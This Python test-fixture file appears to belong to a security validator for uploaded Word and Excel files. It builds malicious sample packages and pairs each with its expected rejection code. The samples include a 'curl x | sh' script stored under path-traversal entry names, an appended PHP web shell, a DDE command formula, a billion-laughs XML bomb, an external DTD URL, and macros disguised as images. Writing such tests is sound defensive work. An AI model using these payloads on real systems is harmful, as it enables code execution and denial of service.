    parts = docx_parts()
    evil = content_types(_PACKAGE_DEFAULTS, {"word/document.xml": DOCM_MAIN})
    entries = as_raw(parts)
    name = "[content_types].xml" if other_spelling else "[Content_Types].xml"
    return raw_zip([*entries, raw_entry(name, evil)])


def duplicate_content_types_by_zipfile() -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate we want
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in docx_parts().items():
                zf.writestr(name, data)
            zf.writestr("[Content_Types].xml", b"<Types/>")
    return out.getvalue()


def evil_entry_name(name: str) -> bytes:
    return raw_zip([*as_raw(docx_parts()), raw_entry(name, b"#!/bin/sh\ncurl x | sh\n")])


def encrypted_entry() -> bytes:
    entries = [
        e._replace(flags=1) if e.name == b"word/document.xml" else e for e in as_raw(docx_parts())
    ]
    return raw_zip(entries)


def hidden_bytes_between_entries() -> bytes:
    return raw_zip(as_raw(docx_parts()), gaps={2: b"MZ" + b"\0" * 500})


def bad_crc() -> bytes:
    entries = [
        e._replace(crc=e.crc ^ 1) if e.name == b"word/document.xml" else e
        for e in as_raw(docx_parts())
    ]
    return raw_zip(entries)


def missing_main_part() -> bytes:
    parts = docx_parts()
    del parts["word/document.xml"]
    return zip_parts(parts)


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + f']>\n<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body>'
    "</w:document>"
)


def dtd_in_utf16(part: str = "word/document.xml", encoding: str = "utf-16") -> bytes:
    """A DTD in a part encoded as UTF-16 (with BOM), where byte scans for "<!DOCTYPE" miss it."""
    xml = (
        f'<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd">'
        f'\n<w:document xmlns:w="{W}"><w:body/></w:document>'
    )
    data = xml.encode(encoding)
    if encoding != "utf-16":
        data = "\ufeff".encode(encoding) + data
    parts = docx_parts()
    parts[part] = data
    return zip_parts(parts)


def pptx() -> bytes:
    pres = (
        XML_DECL + '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/'
        '2006/main"><p:sldSz cx="9144000" cy="6858000"/></p:presentation>'
    )
    parts = {
        "[Content_Types].xml": content_types(
            _PACKAGE_DEFAULTS, {"ppt/presentation.xml": PPTX_MAIN, **_PROPS_OVERRIDES}
        ),
        "_rels/.rels": relationships(
            [Rel(R + "officeDocument", "ppt/presentation.xml"), *_PROPS_RELS]
        ),
        **_doc_props("Microsoft Office PowerPoint"),
        "ppt/presentation.xml": pres.encode(),
    }
    return zip_parts(parts)


def mz_stub_with_docx() -> bytes:
    stub = b"MZ" + b"\x90" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 188
    return stub + docx()


# --- small and large clean packages for benchmarks ---------------------------------


def small_docx(text: str) -> bytes:
    """A clean one-paragraph DOCX; ``text`` varies the bytes."""
    return docx(body=f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")


def small_xlsx(number: int) -> bytes:
    """A clean one-cell XLSX; ``number`` varies the bytes."""
    return xlsx(sheets=[sheet_xml(f'<row r="1"><c r="A1"><v>{number}</v></c></row>')])


def large_docx(size_bytes: int) -> bytes:
    """A clean DOCX of about ``size_bytes``, mostly 1 MB photos of random (incompressible) data."""
    parts = docx_parts()
    media: dict[str, bytes] = {}
    rels = []
    remaining = size_bytes - len(zip_parts(parts))
    while remaining > 0:
        n = len(media) + 1
        chunk = min(remaining, 1 << 20)
        media[f"word/media/image{n}.jpeg"] = b"\xff\xd8\xff\xe0\x00\x10JFIF\0" + os.urandom(chunk)
        rels.append(Rel(R + "image", f"media/image{n}.jpeg"))
        remaining -= chunk
    return zip_parts(docx_parts(doc_rels=rels, parts=media), level=1)


def large_xlsx(size_bytes: int) -> bytes:
    """A clean XLSX of about ``size_bytes``: sheets of random text cells, each under 8 MB."""
    sheets: list[bytes] = []
    estimated = 0
    while estimated < size_bytes:
        hexes = os.urandom(3 << 20).hex()  # random hex text deflates to about half
        width, cols = 64, "ABCD"
        rows = []
        for r in range(len(hexes) // (width * len(cols))):
            base = r * width * len(cols)
            cells = "".join(
                f'<c r="{c}{r + 1}" t="inlineStr"><is><t>'
                f"{hexes[base + i * width : base + (i + 1) * width]}</t></is></c>"
                for i, c in enumerate(cols)
            )
            rows.append(f'<row r="{r + 1}">{cells}</row>')
        sheets.append(sheet_xml("".join(rows)))
        sample = sheets[-1][: 1 << 20]
        estimated += len(sheets[-1]) * len(zlib.compress(sample, 1)) // len(sample)
    return zip_parts(xlsx_parts(sheets=sheets), level=1)


# --- the cases ---------------------------------------------------------------------

GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times New Roman;}} Antrag}"

CASES: dict[str, Case] = {
    # accepted
    "minimal Word-like docx": (docx, "antrag.docx", None),
    "xlsx like openpyxl makes": (xlsx, "liste.xlsx", None),
    "docx with an https hyperlink": (docx_with_hyperlink, "brief.docx", None),
    "docx with a mailto link": (
        lambda: docx_with_hyperlink("mailto:info@hwk-musterstadt.de"),
        "brief.docx",
        None,
    ),
    "docx with a clean embedded chart workbook": (docx_with_chart, "bericht.docx", None),
    "docx with a picture": (docx_with_picture, "foto.docx", None),
    "docx with harmless PAGE, HYPERLINK and DATE fields": (
        docx_with_harmless_fields,
        "brief.docx",
        None,
    ),
    "docx written with data descriptors": (docx_streamed, "antrag.docx", None),
    "docx with folder entries": (docx_with_folders, "antrag.docx", None),
    "valid xlsx named .docx": (xlsx, "nachweis.docx", "name.mismatch"),
    # rejected by the package rules
    "real .docm content renamed .docx": (docm_renamed, "antrag.docx", "ooxml.macro_enabled"),
    "plain docx content type with a vbaProject part": (
        docx_with_vba_part,
        "antrag.docx",
        "ooxml.macros",
    ),
    "VBA project stored as word/media/image7.png": (
        vba_disguised_as_image,
        "antrag.docx",
        "ooxml.macros",
    ),
    "macroEnabled content type without VBA": (
        lambda: docx(main_type=DOCM_MAIN),
        "antrag.docx",
        "ooxml.macro_enabled",
    ),
    "remote template injection": (remote_template, "rechnung.docx", "ooxml.remote_template"),
    "DDEAUTO field split across runs": (
        field_document(DDEAUTO_SPLIT),
        "rechnung.docx",
        "ooxml.dde",
    ),
    "DDE field in fldSimple, lower case": (field_document(DDE_SIMPLE), "a.docx", "ooxml.dde"),
    "DDE field split by an ignorable element": (
        field_document(DDE_SPLIT_BY_IGNORED_ELEMENT),
        "a.docx",
        "ooxml.dde",
    ),
    "INCLUDEPICTURE field": (field_document(INCLUDEPICTURE), "a.docx", "ooxml.dde"),
    "field name built by a nested QUOTE field": (
        field_document(NESTED_FIELD_NAME),
        "a.docx",
        "ooxml.dde",
    ),
    "DDE link in xlsx": (xlsx_with_dde_link, "liste.xlsx", "ooxml.dde"),
    "DDE call in a cell formula": (
        lambda: xlsx(
            sheets=[sheet_xml('<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row>')]
        ),
        "liste.xlsx",
        "ooxml.dde",
    ),
    "formula with a pipe in a text": (
        lambda: xlsx(
            sheets=[
                sheet_xml(
                    '<row r="1"><c r="A1" t="str"><f>CONCATENATE("a|b";"c")</f>'
                    "<v>a|bc</v></c></row>"
                )
            ]
        ),
        "liste.xlsx",
        None,
    ),
    "web query data connection in an xlsx": (
        xlsx_with_web_query,
        "liste.xlsx",
        "ooxml.external_link",
    ),
    "XLM macro sheet in an xlsx": (xlsx_with_macro_sheet, "liste.xlsx", "ooxml.xlm_macros"),
    "embedded OLE object": (docx_with_ole_object, "antrag.docx", "ooxml.ole_object"),
    "program stored as an embedding": (docx_with_exe_embedding, "a.docx", "ooxml.ole_object"),
    "OLE object linked to an external file": (
        docx_with_external_ole_link,
        "a.docx",
        "ooxml.ole_object",
    ),
    "ActiveX control": (docx_with_activex, "formular.docx", "ooxml.activex"),
    "altChunk": (docx_with_alt_chunk, "brief.docx", "ooxml.alt_chunk"),
    "web extension add-in": (docx_with_web_extension, "brief.docx", "ooxml.addin"),
    "hyperlink to a network share": (
        lambda: docx_with_hyperlink("\\\\198.51.100.7\\share\\x.docx"),
        "a.docx",
        "ooxml.external_link",
    ),
    "hyperlink to a local program": (
        lambda: docx_with_hyperlink("file:///C:/Windows/System32/calc.exe"),
        "a.docx",
        "ooxml.external_link",
    ),
    "macro-enabled workbook embedded in a chart": (
        lambda: docx_with_chart(
            xlsx(
                main_type=XLSM_MAIN,
                workbook_rels=[Rel(MSR + "vbaProject", "vbaProject.bin")],
                defaults={"bin": VBA_TYPE},
                parts={"xl/vbaProject.bin": vba_project()},
            )
        ),
        "bericht.docx",
        "ooxml.macro_enabled",
    ),
    "packages nested deeper than allowed": (lambda: nested_docx(4), "a.docx", "file.too_complex"),
    "plain ZIP renamed .docx": (plain_zip, "antrag.docx", "archive.zip"),
    "billion laughs in document.xml": (
        lambda: zip_parts({**docx_parts(), "word/document.xml": BILLION_LAUGHS.encode()}),
        "a.docx",
        "ooxml.dtd",
    ),
    "DTD in UTF-16 document.xml": (dtd_in_utf16, "a.docx", "ooxml.dtd"),
    "DTD in UTF-16BE docProps/core.xml": (
        lambda: dtd_in_utf16("docProps/core.xml", "utf-16-be"),
        "a.docx",
        "ooxml.dtd",
    ),
    "PPTX renamed .docx": (pptx, "praesentation.docx", "ooxml.other_kind"),
    "Word template (dotx)": (lambda: docx(main_type=DOTX_MAIN), "vorlage.docx", "ooxml.template"),
    "main part missing": (missing_main_part, "a.docx", "ooxml.damaged"),
    "CRC mismatch in document.xml": (bad_crc, "a.docx", "ooxml.damaged"),
    "truncated docx": (lambda: docx()[:-100], "a.docx", "ooxml.damaged"),
    # rejected by the ZIP hygiene
    "document.xml inflating to 300 MB, declared small": (
        lambda: inflating_document(honest=False),
        "a.docx",
        "ooxml.unsafe_zip",
    ),
    "document.xml inflating to 300 MB, declared honestly": (
        lambda: inflating_document(honest=True),
        "a.docx",
        "ooxml.unsafe_zip",
    ),
    "500 central-directory entries sharing one 10 MB block": (
        overlapping_entries,
        "a.docx",
        "ooxml.unsafe_zip",
    ),
    "two [Content_Types].xml": (duplicate_content_types, "a.docx", "ooxml.unsafe_zip"),
    "two [Content_Types].xml written by zipfile": (
        duplicate_content_types_by_zipfile,
        "a.docx",
        "ooxml.unsafe_zip",
    ),
    "[Content_Types].xml in two spellings": (
        lambda: duplicate_content_types(other_spelling=True),
        "a.docx",
        "ooxml.unsafe_zip",
    ),
    "entry named ../../tmp/evil.sh": (
        lambda: evil_entry_name("../../tmp/evil.sh"),
        "a.docx",
        "ooxml.unsafe_zip",
    ),
    "absolute entry name": (
        lambda: evil_entry_name("/etc/cron.d/evil"),
        "a.docx",
        "ooxml.unsafe_zip",
    ),
    "entry name with backslashes": (
        lambda: evil_entry_name("..\\..\\evil.bat"),
        "a.docx",
        "ooxml.unsafe_zip",
    ),
    "encrypted entry": (encrypted_entry, "a.docx", "ooxml.unsafe_zip"),
    "hidden bytes between entries": (hidden_bytes_between_entries, "a.docx", "ooxml.unsafe_zip"),
    "data after the end record": (
        lambda: docx() + b"<?php system($_GET['c']); ?>",
        "a.docx",
        "ooxml.unsafe_zip",
    ),
    # decided by the first bytes or the OLE check, before the OOXML rules
    "MZ stub + valid docx": (mz_stub_with_docx, "antrag.docx", "exe.pe"),
    "GIF bytes + docx": (lambda: GIF + docx(), "antrag.docx", "format.image_unsupported"),
    "legacy .doc renamed .docx": (legacy_doc, "antrag.docx", "format.legacy_office"),
    "RTF renamed .docx": (lambda: RTF, "antrag.docx", "format.rtf"),
    "password-encrypted docx": (encrypted_docx, "antrag.docx", "format.encrypted"),
}
